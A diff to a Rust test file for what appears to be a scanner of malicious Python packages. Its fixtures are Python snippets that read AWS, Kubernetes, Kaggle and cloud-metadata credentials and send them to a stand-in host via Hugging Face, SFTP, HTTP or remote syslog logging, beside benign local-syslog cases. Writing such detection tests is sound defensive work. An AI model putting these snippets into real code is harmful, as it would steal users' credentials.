@@ -464,6 +464,7 @@ fn new_channels_and_stores_at_import_are_stealers() {
         ("hf", "import os\nfrom huggingface_hub import HfApi\nHfApi(token='hf_x').upload_file(path_or_fileobj=os.path.expanduser('~/.aws/credentials'), path_in_repo='c', repo_id='d/d')\n".to_string()),
         ("sftp", "import os, paramiko\nt = paramiko.Transport(('c.example.invalid', 22))\nt.connect(username='u', password='p')\nparamiko.SFTPClient.from_transport(t).put(os.path.expanduser('~/.aws/credentials'), '/d/c')\n".to_string()),
         ("httphandler", format!("{read}import logging, logging.handlers\nlg = logging.getLogger('t')\nlg.addHandler(logging.handlers.HTTPHandler('c.example.invalid', '/log', method='POST'))\nlg.error(S)\n")),
+        ("syslogremote", format!("{read}import logging, logging.handlers\nlg = logging.getLogger('t')\nlg.addHandler(logging.handlers.SysLogHandler(('c.example.invalid', 514)))\nlg.error(S)\n")),
         ("imds", format!("import urllib.request\nD = urllib.request.urlopen('http://169.254.169.254/latest/meta-data/iam/security-credentials/role').read()\n{post}")),
         ("k8s", format!("D = open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()\n{post}")),
         ("kaggle", format!("import os\nD = open(os.path.expanduser('~/.kaggle/kaggle.json')).read()\n{post}")),
@@ -483,6 +484,9 @@ fn new_channels_and_stores_at_import_are_stealers() {
         ("s3fn", "import boto3\ndef save(path, bucket):\n    boto3.client('s3').upload_file(path, bucket, 'model.bin')\n"),
         ("hffn", "from huggingface_hub import HfApi\ndef push(folder, repo):\n    HfApi().upload_folder(folder_path=folder, repo_id=repo)\n"),
         ("imdsregion", "import urllib.request\ndef region():\n    return urllib.request.urlopen('http://169.254.169.254/latest/meta-data/placement/region', timeout=1).read()\n"),
+        // The local syslog (tester t14 bs06): nothing leaves the machine.
+        ("sysloglocal", "import logging, logging.handlers\nlog = logging.getLogger(__name__)\nlog.addHandler(logging.handlers.SysLogHandler(address='/dev/log'))\n"),
+        ("syslogdefault", "import logging.handlers\nlogging.getLogger().addHandler(logging.handlers.SysLogHandler())\n"),
     ];
     for (case, src) in benign {
         let p = package(dir.path(), case, "__init__.py", src);
